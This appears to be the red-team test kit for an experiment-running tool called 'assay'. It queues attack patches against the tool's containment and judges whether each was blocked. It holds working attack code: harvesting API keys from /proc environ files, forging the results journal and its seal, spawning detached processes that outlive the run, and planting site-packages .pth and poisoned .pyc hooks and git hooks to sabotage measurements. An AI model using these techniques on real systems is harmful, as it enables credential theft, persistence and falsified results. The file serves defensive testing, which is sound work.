"""The red-team kit: every attack a candidate can make on assay's containment, run as a user
would run it, and judged on what that user then sees.

An attack is a queued patch (or a proposer, or a forger outside the run) aimed at one
promise: the incumbent's tree, the journal, the orchestrator's secrets, the user's checkout,
the files both sides read, the processes of the run. :func:`run_attack` makes a fresh git
repository for it (a small bench like the quickstart's: ``work.py`` is the editable code,
``bench.py`` and ``checks.py`` are protected), commits the patches under ``patches/``, runs
``assay run`` as a subprocess, then ``assay status``, ``log``, ``show`` and ``export`` as a
person reads them, looks at the files the attack aimed at, and hands the whole
:class:`Outcome` to the attack's judge. A :class:`Verdict` says ``blocked: how`` or
``NOT BLOCKED: what happened``; the judges read only what a user can observe (states,
reasons, the files, the processes), never how a defence is built.

Two settings of the bench: ``scripted`` (the tests: the speed printed is computed from the
work done, times a bounded random jitter of +-0.5%, so a decision does not depend on the
machine's load) and ``timed`` (``benchmarks/red_team.py``: the CPU time of the work is
measured, as the quickstart's bench does). The sabotage attacks all double the work an
incumbent run does, which halves its speed in both settings.

Every attack's code is written to fail quietly when a defence stops it (a candidate that
is blocked runs on as an ordinary one), and prints ``REDTEAM-RAN <attack>`` to its output,
so a verdict of "blocked" is never the result of an attack that did not run.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import sysconfig
import threading
import time
import uuid
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

CLI = [sys.executable, "-m", "assay"]
SITE = Path(sysconfig.get_paths()["purelib"])

WORK = """\
# The code under test: SIZE steps of integer work.
SIZE = @SIZE@


def run(n):
    s = 0
    for i in range(n):
        s += i * i
    return s
"""

BENCH = '''\
"""The benchmark (protected): runs work.run(work.SIZE) once and prints its speed."""
import os
import pathlib
import random
import sys
import tempfile
import time

sys.path.insert(0, os.getcwd())
TOKEN = "@TOKEN@"
SCRIPTED = @SCRIPTED@
PAUSE = @PAUSE@


def name_self(name):
    try:
        with open("/proc/self/comm", "w") as fh:
            fh.write(name)
    except OSError:
        pass


def cache_scale():
    """The factor the bench keeps in its caches between runs (as compile and data caches do)."""
    scale = 1.0
    dirs = {pathlib.Path.home() / ".cache" / f"rtbench-{TOKEN}",
            pathlib.Path(tempfile.gettempdir()) / f"rtbench-{TOKEN}",
            pathlib.Path("/tmp") / f"rtbench-{TOKEN}"}
    if os.environ.get("RTBENCH_CACHE"):  # a compile cache assay keeps per slot
        dirs.add(pathlib.Path(os.environ["RTBENCH_CACHE"]))
    for d in dirs:
        try:
            scale *= float((d / "scale").read_text())
        except (OSError, ValueError):
            pass
    return scale


def report(value):
    try:
        from rt_benchlib_@TOKEN@ import report as lib_report
    except ImportError:
        print(f"METRIC speed={value:.6f}", flush=True)
    else:
        lib_report(value)


name_self("rta-" + TOKEN)
import work

n = int(work.SIZE * cache_scale())
t0 = time.process_time()
work.run(n)
spent = time.process_time() - t0
time.sleep(PAUSE)
if SCRIPTED:
    speed = 1e9 / n * (1 + random.uniform(-0.005, 0.005))
else:
    speed = @SIZE@ / max(spent, 1e-9)
report(speed)
'''

CHECKS = """\
import os
import sys

sys.path.insert(0, os.getcwd())
import work

assert work.run(10) == sum(i * i for i in range(10))
"""

BENCHLIB = '''\
"""A helper the bench imports from the environment (a timing library, say)."""


def report(value):
    print(f"METRIC speed={value:.6f}", flush=True)
'''

CONFIG = """\
[target]
name = "redteam"

[metric]
name = "speed"
direction = "maximize"
unit = "steps/s"

[commands]
bench = "{python} bench.py"
bench_timeout = 120
checks = "{python} checks.py"
checks_timeout = 120
{commands}

[scope]
editable = ["work.py"]
protected = ["bench.py", "checks.py", "patches/**", "tools/**"]
{scope}

[proposer.queue]
path = "patches"

[run]
slots = {slots}
budget = {budget}
proposer = "{proposer}"
verify = false
{run}

{decision}
{extra}
"""

# The tests: two pairs decide (the scripted values make every effect here exact).
DECISION_SCRIPTED = """\
[decision]
rule = "fixed"
pairs_per_block = 2
max_pairs = 2
aa_blocks = 0
delta = 0.05
"""

# The benchmark: the quickstart's sequential rule on timed runs.
DECISION_TIMED = """\
[decision]
rule = "sequential"
pairs_per_block = 2
min_pairs = 4
max_pairs = 12
confidence = 0.95
delta = 0.05
confirm = true
aa_blocks = 1
"""

IDENT = {"GIT_AUTHOR_NAME": "red team", "GIT_AUTHOR_EMAIL": "redteam@localhost",
         "GIT_COMMITTER_NAME": "red team", "GIT_COMMITTER_EMAIL": "redteam@localhost"}


def git(root: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=root, check=True, capture_output=True,
                          text=True, env={**os.environ, **IDENT}).stdout


@dataclass(frozen=True)
class Setting:
    """How the bench measures: ``scripted`` for the tests, ``timed`` for the benchmark."""

    scripted: bool = True
    slots: int = 1
    size: int = 200_000
    pause: float = 0.0

    @property
    def true_speed(self) -> float:
        """What an incumbent run prints when nothing tampered with it (scripted only)."""
        return 1e9 / self.size

    def decision(self) -> str:
        return DECISION_SCRIPTED if self.scripted else DECISION_TIMED


SCRIPTED = Setting()
TIMED = Setting(scripted=False, slots=2, size=2_000_000)


@dataclass
class Repo:
    """One attack's fresh repository, its scratch home, and the names that mark its traces."""

    root: Path
    home: Path
    outside: Path
    token: str
    setting: Setting
    port: int = 0

    @property
    def nonce(self) -> str:
        """Digits unique to this repository (a `sleep` duration that marks escaped processes)."""
        return str(int(self.token, 16))

    @property
    def state(self) -> Path:
        return self.root / ".assay"

    @property
    def journal(self) -> Path:
        return self.state / "journal.sqlite"

    def fill(self, text: str) -> str:
        for key, value in (("@REPO@", str(self.root)), ("@TOKEN@", self.token),
                           ("@NONCE@", self.nonce), ("@SIZE@", str(self.setting.size)),
                           ("@OUTSIDE@", str(self.outside)), ("@PYTHON@", sys.executable),
                           ("@SITE@", str(SITE)), ("@SCRIPTED@", str(self.setting.scripted)),
                           ("@PAUSE@", repr(self.setting.pause)), ("@PORT@", str(self.port))):
            text = text.replace(key, value)
        return text

    def committed(self, path: str) -> str:
        return git(self.root, "show", f"HEAD:{path}")

    def incumbent_trees(self) -> list[Path]:
        """The slots' incumbent worktrees (``<slot>-a``) as they are on disk now."""
        trees = self.state / "worktrees"
        return sorted(trees.glob("*-a")) if trees.is_dir() else []

    def traces(self) -> list[int]:
        """Live processes whose command line carries this repository's nonce or token."""
        out: list[int] = []
        for d in Path("/proc").iterdir():
            if not d.name.isdigit() or int(d.name) == os.getpid():
                continue
            line = cmdline(int(d.name))
            if (self.nonce in line or f"rtx-{self.token}" in line) and alive(int(d.name)):
                out.append(int(d.name))
        return out

    def cleanup(self) -> None:
        """Kill what the attack left running and remove what it wrote outside its folder."""
        for pid in self.traces():
            with_pid(pid, signal.SIGKILL)
        for d in (Path("/tmp") / f"rtbench-{self.token}",):
            shutil.rmtree(d, ignore_errors=True)
        for p in [*SITE.glob(f"rt_*{self.token}*"), *SITE.glob(f"__pycache__/rt_*{self.token}*")]:
            p.unlink(missing_ok=True)


def with_pid(pid: int, sig: int) -> None:
    with contextlib.suppress(OSError):
        os.kill(pid, sig)


def alive(pid: int) -> bool:
    """True when ``pid`` is a live (not zombie) process."""
    try:
        with open(f"/proc/{pid}/stat") as fh:
            state = fh.read().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state not in ("Z", "X")


def cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(
            errors="replace")
    except OSError:
        return ""


def comm(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/comm").read_text().strip()
    except OSError:
        return ""


def make_repo(parent: Path, setting: Setting, *, proposer: str = "queue", budget: int = 1,
              config: str = "", commands: str = "", scope: str = "", run: str = "",
              files: Mapping[str, str] | None = None,
              patches: tuple[tuple[str, str], ...] = (), port: int = 0) -> Repo:
    """A fresh git repository holding the bench, its checks and the queued patches."""
    token = uuid.uuid4().hex[:8]
    base = parent / f"rt-{token}"
    repo = Repo(root=base / "repo", home=base / "home", outside=base / "outside", token=token,
                setting=setting, port=port)
    for d in (repo.root, repo.home, repo.outside):
        d.mkdir(parents=True)
    texts = {"work.py": WORK, "bench.py": BENCH, "checks.py": CHECKS,
             "README.md": "A small bench for the red team.\n",
             "assay.toml": CONFIG.format(python=sys.executable, slots=setting.slots,
                                         budget=budget, proposer=proposer,
                                         decision=setting.decision(), extra=config,
                                         commands=commands, scope=scope, run=run)}
    texts.update(files or {})
    for i, (hypothesis, patch) in enumerate(patches, 1):
        texts[f"patches/{i:02d}.patch"] = f"# hypothesis: {hypothesis}\n{patch}"
    for name, text in texts.items():
        p = repo.root / name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(repo.fill(text))
    git(repo.root, "init", "-q", "-b", "main")
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-qm", "the bench as shipped")
    return repo


def top_patch(code: str) -> str:
    """A patch that puts ``code`` at the top of work.py (it runs whenever work is imported)."""
    lines = ["REDTEAM = True", *code.strip("\n").splitlines()]
    body = "".join(f"+{ln}\n" for ln in lines)
    return ("diff --git a/work.py b/work.py\n--- a/work.py\n+++ b/work.py\n"
            f"@@ -1,1 +1,{len(lines) + 1} @@\n{body} {WORK.splitlines()[0]}\n")


def size_patch(new: int) -> str:
    """An honest change: work.py does ``new`` steps instead of SIZE."""
    return ("diff --git a/work.py b/work.py\n--- a/work.py\n+++ b/work.py\n"
            f"@@ -1,3 +1,3 @@\n {WORK.splitlines()[0]}\n-SIZE = @SIZE@\n+SIZE = {new}\n \n")


def guarded(name: str, code: str) -> str:
    """Attack code that announces itself and fails quietly when a defence stops it.

    The code runs through ``exec`` of its own text (one line in the patch), so the strings
    it writes elsewhere keep their indentation."""
    return (f"print('REDTEAM-RAN {name}', flush=True)\ntry:\n"
            f"    exec(compile({code.strip()!r} + '\\n', 'redteam', 'exec'), "
            "{'__name__': 'redteam'})\n"
            "except Exception as _exc:\n"
            f"    print('REDTEAM-STOPPED {name}', type(_exc).__name__, _exc, flush=True)\n")


# -- what a user sees ------------------------------------------------------------------


@dataclass(frozen=True)
class Cli:
    code: int
    out: str
    err: str

    @property
    def text(self) -> str:
        return self.out + self.err

    def json(self) -> Any:
        return json.loads(self.out)


def cli(repo: Repo, *args: str, env: Mapping[str, str] | None = None,
        timeout: float = 600) -> Cli:
    r = subprocess.run([*CLI, *args, "-C", str(repo.root)], capture_output=True, text=True,
                       env=user_env(repo, env), timeout=timeout, cwd=repo.root)
    return Cli(r.returncode, r.stdout, r.stderr)


def user_env(repo: Repo, extra: Mapping[str, str] | None = None) -> dict[str, str]:
    """The environment of a user's shell: this one, with the attack's scratch home."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("ASSAY_", "PYTEST"))}
    env.update(IDENT)
    env["HOME"] = str(repo.home)
    env["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', os.defpath)}"
    env.update(extra or {})
    return env


@dataclass
class Outcome:
    """Everything a user can look at after the attack's run."""

    repo: Repo
    run: Cli
    status: Cli
    log: Cli
    shows: dict[str, Cli]
    export: Cli
    notes: dict[str, Any] = field(default_factory=dict)

    @property
    def experiments(self) -> list[dict[str, Any]]:
        if self.log.code != 0:
            return []
        rows: list[dict[str, Any]] = self.log.json()
        return sorted(rows, key=lambda e: str(e["id"]))

    def by_hypothesis(self, hypothesis: str) -> dict[str, Any] | None:
        for e in self.experiments:
            if e["hypothesis"] == hypothesis:
                return e
        return None

    def runs(self, exp_id: str) -> list[dict[str, Any]]:
        show = self.shows.get(exp_id)
        if show is None or show.code != 0:
            return []
        return list(show.json()["runs"])

    def outputs(self) -> list[tuple[str, str]]:
        """(where, text) of every file under the repository and the scratch home, the
        binary ones (the journal) included."""
        found: list[tuple[str, str]] = []
        for base in (self.repo.root, self.repo.home, self.repo.outside):
            for p in base.rglob("*"):
                if p.is_file() and not p.is_symlink() and ".git" not in p.parts:
                    try:
                        found.append((str(p.relative_to(base.parent)),
                                      p.read_bytes().decode(errors="replace")))
                    except OSError:
                        continue
        return found

    def printed(self, marker: str) -> list[str]:
        """Lines starting with ``marker`` that the attack's runs printed (text files only)."""
        out: list[str] = []
        for _where, text in self.outputs():
            if "\0" not in text:
                out += [ln for ln in text.splitlines() if ln.startswith(marker)]
        return out

    def summary(self) -> str:
        rows = [f"{e['id']} {e['state']} {e['note'][:100]}" for e in self.experiments]
        return "; ".join(rows) or f"no experiment (run exit {self.run.code}: " \
            f"{self.run.text.strip().splitlines()[-1:] if self.run.text.strip() else ''})"


@dataclass(frozen=True)
class Verdict:
    blocked: bool
    how: str

    @property
    def line(self) -> str:
        return f"blocked: {self.how}" if self.blocked else f"NOT BLOCKED: {self.how}"


def blocked(how: str) -> Verdict:
    return Verdict(True, how)


def not_blocked(what: str) -> Verdict:
    return Verdict(False, what)


Judge = Callable[[Outcome], Verdict]


@dataclass(frozen=True)
class Attack:
    """One attack: its patches (or proposer), its setup, and the judge of what a user sees."""

    name: str
    promise: str
    what: str
    judge: Judge
    patches: tuple[tuple[str, str], ...] = ()
    proposer: str = "queue"
    config: str = ""  # tables added to assay.toml
    commands: str = ""  # lines added to [commands]
    scope: str = ""  # lines added to [scope]
    run: str = ""  # lines added to [run]
    files: Mapping[str, str] = field(default_factory=dict)
    env: Mapping[str, str] = field(default_factory=dict)
    args: tuple[str, ...] = ()
    prepare: Callable[[Repo], None] | None = None
    drive: Callable[[Repo, Attack], Cli] | None = None  # default: `assay run` to its end
    pause: float = 0.0  # seconds each bench run sleeps (to catch what runs beside it)


def start_run(repo: Repo, attack: Attack) -> subprocess.Popen[str]:
    return subprocess.Popen([*CLI, "run", "-C", str(repo.root),
                             *(repo.fill(a) for a in attack.args)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env=user_env(repo, {k: repo.fill(v) for k, v in attack.env.items()}),
                            cwd=repo.root)


def plain_run(repo: Repo, attack: Attack) -> Cli:
    proc = start_run(repo, attack)
    out, err = proc.communicate(timeout=900)
    return Cli(proc.returncode, out, err)


def observe(repo: Repo, run: Cli, notes: dict[str, Any] | None = None) -> Outcome:
    """What a person reads after the run: status, log, every experiment shown, the export."""
    log = cli(repo, "log", "--json")
    ids = [str(e["id"]) for e in log.json()] if log.code == 0 else []
    with ThreadPoolExecutor(max_workers=4) as pool:
        status = pool.submit(cli, repo, "status")
        export = pool.submit(cli, repo, "export", "tsv")
        shows = {i: pool.submit(cli, repo, "show", i, "--json") for i in ids}
        return Outcome(repo=repo, run=run, status=status.result(), log=log,
                       shows={i: f.result() for i, f in shows.items()},
                       export=export.result(), notes=notes or {})


def run_attack(attack: Attack, parent: Path, setting: Setting = SCRIPTED
               ) -> tuple[Verdict, Outcome]:
    """Make the attack's repository, run it as a user would, judge what the user sees."""
    setting = Setting(scripted=setting.scripted, slots=setting.slots, size=setting.size,
                      pause=max(setting.pause, attack.pause))
    with listener() as server:
        repo = make_repo(parent, setting, proposer=attack.proposer,
                         budget=max(1, len(attack.patches)), config=attack.config,
                         commands=attack.commands, scope=attack.scope, run=attack.run,
                         files=attack.files, patches=attack.patches, port=server.port)
        try:
            if attack.prepare is not None:
                attack.prepare(repo)
            outcome = (attack.drive or plain_drive)(repo, attack)
            outcome.notes["connections"] = list(server.received)
            return attack.judge(outcome), outcome
        finally:
            repo.cleanup()


def plain_drive(repo: Repo, attack: Attack) -> Outcome:
    return observe(repo, plain_run(repo, attack))


@dataclass
class Listener:
    """A TCP server on this machine's loopback: what reaches it is what left a run."""

    port: int
    received: list[bytes]


@contextlib.contextmanager
def listener() -> Iterator[Listener]:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.settimeout(0.2)
    got = Listener(port=sock.getsockname()[1], received=[])
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    got.received.append(conn.recv(200))
                except OSError:
                    got.received.append(b"")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield got
    finally:
        stop.set()
        thread.join(5)
        sock.close()


def wait_until(pred: Callable[[], bool], timeout: float, step: float = 0.05) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if pred():
            return True
        time.sleep(step)
    return pred()


# -- judges ------------------------------------------------------------------------------


def ran(o: Outcome, name: str) -> bool:
    return any(ln.split()[1:2] == [name] for ln in o.printed("REDTEAM-RAN"))


def inconclusive(o: Outcome, name: str) -> Verdict | None:
    """A verdict when the attack's code never ran (so nothing it tried can be judged)."""
    if ran(o, name):
        return None
    return not_blocked(f"inconclusive: the attack's code never ran ({o.summary()})")


def changed_in_trees(o: Outcome, path: str) -> list[str]:
    """Incumbent trees whose ``path`` differs from the commit the run started from."""
    want = o.repo.committed(path)
    out = []
    for tree in o.repo.incumbent_trees():
        try:
            have = (tree / path).read_text()
        except OSError:
            have = "<missing>"
        if have != want:
            out.append(f"{tree.name}/{path}")
    return out


def sabotaged_runs(o: Outcome, exp_id: str) -> list[float]:
    """Incumbent speeds of ``exp_id`` well below the untouched incumbent's (scripted only)."""
    if not o.repo.setting.scripted:
        return []
    floor = 0.9 * o.repo.setting.true_speed
    return [float(r["metrics"]["speed"]) for r in o.runs(exp_id)
            if r["role"] == "a" and "speed" in r["metrics"]
            and float(r["metrics"]["speed"]) < floor]


def sabotage_judge(name: str, paths: tuple[str, ...] = (), planted: Callable[[Repo], list[str]]
                   | None = None) -> Judge:
    """The judge of an attack on the incumbent's measurements.

    Blocked when the candidate is not kept, no incumbent run was measured sabotaged, the
    incumbent trees hold what was committed, nothing the attack planted is left, and an
    ``invalid`` experiment says ``tampered:`` and names the path."""

    def judge(o: Outcome) -> Verdict:
        e = o.by_hypothesis(name)
        if e is None:
            return not_blocked(f"no experiment for {name!r} ({o.summary()})")
        if o.run.code != 0:
            last = [ln for ln in o.run.text.splitlines() if ln.startswith("error")]
            return not_blocked(f"`assay run` exit {o.run.code}, {e['id']} {e['state']}: "
                               + (last[0][:140] if last else o.run.text.strip()[-140:]))
        if e["state"] == "kept":
            return not_blocked(f"{e['id']} kept: {e['note'][:120]}")
        slow = sabotaged_runs(o, e["id"])
        if slow:
            return not_blocked(f"{e['id']} {e['state']}, but {len(slow)} incumbent run(s) "
                               f"measured sabotaged ({min(slow):.0f} < "
                               f"{o.repo.setting.true_speed:.0f})")
        changed = [c for p in paths for c in changed_in_trees(o, p)]
        if changed:
            return not_blocked(f"{e['id']} {e['state']}, the incumbent's tree is left changed: "
                               + ", ".join(changed))
        left = planted(o.repo) if planted else []
        if left:
            return not_blocked(f"{e['id']} {e['state']}, the attack left " + ", ".join(left))
        if e["state"] == "invalid":
            if e["note"].startswith("tampered:") and any(p in e["note"] for p in paths):
                return blocked(f"{e['id']} invalid, {e['note'][:120]}")
            if e["note"].startswith("tampered:") and not paths:
                return blocked(f"{e['id']} invalid, {e['note'][:120]}")
            return not_blocked(f"{e['id']} invalid, but its reason does not say tampered: and "
                               f"name the path: {e['note'][:120]}")
        bad = inconclusive(o, name)
        if bad is not None:
            return bad
        stopped = o.printed("REDTEAM-STOPPED")
        why = f" ({stopped[0][16:90]})" if stopped else ""
        return blocked(f"{e['id']} {e['state']}, the attack's writes never landed{why}")

    return judge


def refused_judge(name: str, words: tuple[str, ...]) -> Judge:
    """The judge of a patch that must be refused: ``invalid``, naming the path and the kind."""

    def judge(o: Outcome) -> Verdict:
        e = o.by_hypothesis(name)
        if e is None:
            return not_blocked(f"no experiment for {name!r} ({o.summary()})")
        note = e["note"]
        if e["state"] == "invalid" and all(w in note for w in words):
            return blocked(f"{e['id']} invalid, {note[:120]}")
        return not_blocked(f"{e['id']} {e['state']}: {note[:120]}")

    return judge


def leaked_judge(name: str, secrets: tuple[str, ...]) -> Judge:
    """Blocked when no secret's value appears in anything the run wrote or a command shows."""

    def judge(o: Outcome) -> Verdict:
        texts = [*o.outputs(), ("assay run", o.run.text), ("assay status", o.status.text),
                 ("assay log", o.log.text), ("assay export", o.export.text),
                 *((f"assay show {k}", v.text) for k, v in o.shows.items())]
        found = sorted({where for where, text in texts for s in secrets if s in text})
        if found:
            pids = sorted({m.group(1) for ln in o.printed("REDTEAM-LEAK")
                           if (m := re.match(r"REDTEAM-LEAK (\d+)", ln))})
            return not_blocked(f"a key's value is in {', '.join(found[:4])}"
                               + (f" (read from /proc/{{{','.join(pids)}}}/environ)"
                                  if pids else ""))
        return inconclusive(o, name) or blocked(
            f"no key's value in the run's {len(texts)} outputs; /proc showed the run none")

    return judge


def processes_judge(name: str, grace: float = 15.0) -> Judge:
    """Blocked when no process the attack started is alive ``grace`` seconds after the end."""

    def judge(o: Outcome) -> Verdict:
        bad = inconclusive(o, name)
        if bad is not None:
            return bad
        wait_until(lambda: not o.repo.traces(), grace)
        left = o.repo.traces()
        if left:
            cmds = sorted({cmdline(p).strip()[:40] for p in left})
            return not_blocked(f"{len(left)} process(es) outlived the run: {'; '.join(cmds)}")
        overlap = int(o.notes.get("overlap", 0))
        if overlap:
            return not_blocked(f"a process the candidate left was alive during {overlap} "
                               "samples of the incumbent's runs")
        return blocked(f"no process of the run was alive {grace:g}s after it ended")

    return judge


def checkout_judge(name: str, files: tuple[str, ...], proposed: str = "") -> Judge:
    """Blocked when the user's checkout is exactly what was committed, nothing added.

    ``proposed``: the hypothesis an agent's candidate carries when the agent ran to its end
    (its output is not kept, so that is how a run of it shows)."""

    def judge(o: Outcome) -> Verdict:
        changed = [f for f in files if (o.repo.root / f).read_text() != o.repo.committed(f)]
        dirty = [ln for ln in git(o.repo.root, "status", "--porcelain").splitlines()
                 if ln.strip()]
        if changed or dirty:
            return not_blocked("your checkout was changed: "
                               + ", ".join(changed or [d[3:] for d in dirty]))
        e = o.by_hypothesis(proposed or name)
        if e is None:
            return not_blocked(f"inconclusive: no experiment shows the attack ran "
                               f"({o.summary()})")
        return blocked(f"your checkout is unchanged ({e['id']} {e['state']})")

    return judge


# -- the attacks ------------------------------------------------------------------------

INCUMBENT_TREE = guarded("incumbent-tree", """
import glob, os
_old = "SIZE = @SIZE@\\n"
for _p in set(glob.glob(os.path.join(os.getcwd(), "..", "*-a", "work.py"))
              + glob.glob("@REPO@/.assay/worktrees/*-a/work.py")):
    _t = open(_p).read()
    if _old in _t:
        open(_p, "w").write(_t.replace(_old, "SIZE = 2 * @SIZE@\\n", 1))
        print("REDTEAM-WROTE", _p, flush=True)
""")

INCUMBENT_BENCH = guarded("incumbent-bench", """
import glob, os
for _p in set(glob.glob(os.path.join(os.getcwd(), "..", "*-a", "bench.py"))
              + glob.glob("@REPO@/.assay/worktrees/*-a/bench.py")):
    _t = open(_p).read()
    if _t.endswith("report(speed)\\n"):
        open(_p, "w").write(_t[: -len("report(speed)\\n")] + "report(speed / 2)\\n")
        print("REDTEAM-WROTE", _p, flush=True)
""")

SYMLINK = """\
diff --git a/work.py b/work.py
deleted file mode 100644
--- a/work.py
+++ /dev/null
@@ -1,9 +0,0 @@
-# The code under test: SIZE steps of integer work.
-SIZE = @SIZE@
-
-
-def run(n):
-    s = 0
-    for i in range(n):
-        s += i * i
-    return s
diff --git a/work.py b/work.py
new file mode 0120000
--- /dev/null
+++ b/work.py
@@ -0,0 +1 @@
+@OUTSIDE@/fast_work.py
\\ No newline at end of file
"""

MODE_CHANGE = """\
diff --git a/work.py b/work.py
old mode 0100644
new mode 0100755
"""

SECRETS = guarded("secrets", """
import os
_found = []
def _scan(pid):
    try:
        data = open(f"/proc/{pid}/environ", "rb").read()
    except OSError:
        return
    for item in data.split(b"\\0"):
        if item.split(b"=", 1)[0] in (b"OPENAI_API_KEY", b"ANTHROPIC_API_KEY"):
            _found.append((pid, item.decode(errors="replace")))
_pid = os.getpid()
while _pid > 1:
    _scan(_pid)
    try:
        _pid = int(open(f"/proc/{_pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
for _d in os.listdir("/proc"):
    if _d.isdigit():
        _scan(int(_d))
for _pid, _item in _found:
    print("REDTEAM-LEAK", _pid, _item, flush=True)
open("leaked.txt", "w").write(repr(_found))
""")

KEYS = {"OPENAI_API_KEY": "sk-redteam-openai-7f3a91c2", "ANTHROPIC_API_KEY":
        "sk-ant-redteam-04be77d1"}

# Six lines re-create main's unkeyed seal; the forger then rewrites every decision's effect,
# adds an event, deletes a run, and rewrites the "verified" mark so no check runs at open.
FORGE = """
import glob, hashlib, json, os, sqlite3
def _seal(*values):
    h = hashlib.blake2b(digest_size=16)
    for v in values:
        h.update(b"\\x1f" if v is None else b"\\x1e" + repr(v).encode("utf-8", "surrogatepass"))
    return h.hexdigest()
def forge(path):
    con = sqlite3.connect(path, timeout=30)
    con.create_function("assay_seal", -1, _seal, deterministic=True)
    with con:
        con.execute("UPDATE decisions SET effect = 9.99")
        con.execute("INSERT INTO events (ts, kind, experiment_id, message, data) VALUES "
                    "(0, 'note', NULL, 'REDTEAM-FORGED', '{}')")
        con.execute("DELETE FROM runs WHERE id = (SELECT min(id) FROM runs)")
    con.close()
    st = os.stat(path)
    state = [st.st_ino, st.st_size, st.st_mtime_ns, st.st_ctime_ns]
    try:
        w = os.stat(path + "-wal")
        state += [w.st_size, w.st_mtime_ns] if w.st_size else [0, None]
    except OSError:
        state += [0, None]
    with open(path + "-sealed", "wb") as fh:
        fh.write(json.dumps(state).encode().ljust(200))
    print("REDTEAM-WROTE", path, flush=True)
"""

FORGE_IN_RUN = guarded("journal-in-run", FORGE + """
for _p in set(glob.glob(os.path.join(os.getcwd(), "..", "..", "journal.sqlite"))
              + glob.glob("@REPO@/.assay/journal.sqlite")):
    forge(_p)
""")

ESCAPE = guarded("escape", """
import os, subprocess, sys
subprocess.Popen("setsid sleep 777.@NONCE@1 >/dev/null 2>&1 &", shell=True).wait()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "777.@NONCE@2"])
    os._exit(0)
os.wait()
""")

KILL_NINE = guarded("kill-nine", """
import os, subprocess, time
subprocess.Popen("setsid sleep 777.@NONCE@1 >/dev/null 2>&1 & sleep 777.@NONCE@3 &",
                 shell=True).wait()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "777.@NONCE@2"])
    os._exit(0)
os.wait()
time.sleep(120)
""")

HOG = guarded("hog", """
import os, sys
open("/proc/self/comm", "w").write("rtb-@TOKEN@")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c",
                 "import signal, time\\n"
                 "signal.signal(signal.SIGTERM, signal.SIG_IGN)\\n"
                 "signal.signal(signal.SIGHUP, signal.SIG_IGN)\\n"
                 "end = time.time() + 120\\n"
                 "while time.time() < end: pass", "hog-@NONCE@"])
    os._exit(0)
os.wait()
""")


def cache_attack(name: str, dirs: str) -> str:
    """Clear the bench's cache for my own run, leave a doubled scale for the next reader."""
    return guarded(name, f"""
import atexit, os, pathlib, tempfile
_dirs = {dirs}
for _d in _dirs:
    try:
        (_d / "scale").unlink()
    except OSError:
        pass
def _plant():
    for _d in _dirs:
        try:
            _d.mkdir(parents=True, exist_ok=True)
            (_d / "scale").write_text("2")
            print("REDTEAM-WROTE", _d / "scale", flush=True)
        except OSError as _exc:
            print("REDTEAM-STOPPED {name}", _exc, flush=True)
atexit.register(_plant)
""")


HOME_CACHE = cache_attack("home", '[pathlib.Path.home() / ".cache" / "rtbench-@TOKEN@"]')
TMP_CACHE = cache_attack("tmp", '[pathlib.Path(tempfile.gettempdir()) / "rtbench-@TOKEN@", '
                                'pathlib.Path("/tmp") / "rtbench-@TOKEN@"]')

COMPILE_CACHE = cache_attack("compile-cache", '[pathlib.Path(os.environ["RTBENCH_CACHE"])]')

PTH = guarded("pth", """
import os, sysconfig
_site = sysconfig.get_paths()["purelib"]
open(os.path.join(_site, "rt_hook_@TOKEN@.py"), "w").write('''
import os, sys
if "@TOKEN@" in os.getcwd():
    class _Halve:
        def __init__(self, f):
            self.f = f
        def write(self, t):
            w = sys.modules.get("work")
            if t.startswith("METRIC speed=") and not getattr(w, "REDTEAM", False):
                t = "METRIC speed=%f" % (float(t.split("=")[1]) / 2)
            return self.f.write(t)
        def __getattr__(self, n):
            return getattr(self.f, n)
    sys.stdout = _Halve(sys.stdout)
''')
open(os.path.join(_site, "rt_@TOKEN@.pth"), "w").write("import rt_hook_@TOKEN@\\n")
print("REDTEAM-WROTE", _site, flush=True)
""")

PYC = guarded("pyc", """
import importlib.util, os, sysconfig
from importlib import _bootstrap_external
_src = os.path.join(sysconfig.get_paths()["purelib"], "rt_benchlib_@TOKEN@.py")
_st = os.stat(_src)
_evil = open(_src).read() + '''
import sys as _sys
_real = report
def report(value):
    w = _sys.modules.get("work")
    _real(value if getattr(w, "REDTEAM", False) else value / 2)
REDTEAM_PYC = True
'''
_data = _bootstrap_external._code_to_timestamp_pyc(compile(_evil, _src, "exec"),
                                                   _st.st_mtime, _st.st_size)
_pyc = importlib.util.cache_from_source(_src)
os.makedirs(os.path.dirname(_pyc), exist_ok=True)
open(_pyc, "wb").write(_data)
print("REDTEAM-WROTE", _pyc, flush=True)
""")

HOOKS = ("reference-transaction", "post-checkout", "post-commit", "post-merge",
         "post-rewrite")

GIT_HOOKS = guarded("git-hooks", """
import os
_dirs = set()
for _base in (os.getcwd(), "@REPO@"):
    _p = os.path.join(_base, ".git")
    if os.path.isfile(_p):
        _d = open(_p).read().split("gitdir:", 1)[1].strip()
        _d = os.path.join(_base, _d)
        _c = os.path.join(_d, "commondir")
        _dirs.add(os.path.normpath(os.path.join(_d, open(_c).read().strip()))
                  if os.path.exists(_c) else _d)
    elif os.path.isdir(_p):
        _dirs.add(_p)
